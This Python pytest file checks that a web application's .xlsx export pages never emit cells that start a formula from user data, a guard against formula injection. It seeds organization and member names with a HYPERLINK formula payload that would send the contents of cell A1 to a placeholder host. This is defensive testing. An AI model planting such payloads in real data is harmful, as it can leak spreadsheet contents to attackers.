"""Spreadsheet exports: no cell starts a formula from user data (CSV/formula injection).

User data that looks like a formula (an organization and a member named
``=HYPERLINK(...)``) is put into the test tree; every .xlsx export page of the
URL matrix that office staff may open is downloaded and every cell of every
sheet is checked: none is a formula and the formula-like text is kept as text.
"""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from tests.factories import PASSWORD
from tests.test_url_matrix import CASES, build_url

EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"点击")'
EXPORT_WORDS = ("export", "ledger", "xlsx")


def test_no_xlsx_export_cell_starts_a_formula_from_user_data(tree, client):
    branch = tree.orgs["branch"]
    type(branch).objects.filter(pk=branch.pk).update(name=EVIL)
    member = tree.members["member"]
    fields = {f.name for f in type(member)._meta.get_fields()}
    if "name" in fields:
        type(member).objects.filter(pk=member.pk).update(name="+" + EVIL[1:])
    assert client.login(username=tree.users["office_staff"].username, password=PASSWORD)
    workbooks = 0
    for name in sorted(CASES):
        case = CASES[name]
        if case.method != "get" or "office_staff" not in case.allowed:
            continue
        if not any(word in name for word in EXPORT_WORDS):
            continue
        if name.endswith(("_download", "_status")):
            continue  # the member export runs as a job: tests/people/test_export.py
        for query in ("", "?format=xlsx", "?export=xlsx"):
            url = build_url(tree, name, case)
            response = client.get(url + (("&" + query[1:]) if "?" in url and query else query))
            if "spreadsheetml" not in response.get("Content-Type", ""):
                continue
            workbooks += 1
            data = b"".join(response.streaming_content) if response.streaming else response.content
            assert data[:2] == b"PK", f"{name}: not a workbook: {data[:60]!r}"
            try:
                book = load_workbook(io.BytesIO(data), data_only=False)
            except Exception as exc:
                raise AssertionError(f"{name}{query}: {len(data)} bytes, {exc}") from None
            for sheet in book.worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        assert cell.data_type != "f", (
                            f"{name}: formula in {sheet.title}!{cell.coordinate}"
                        )
            break
    if workbooks == 0:
        pytest.skip("no export page answered with a workbook for this tree")
    assert workbooks >= 1
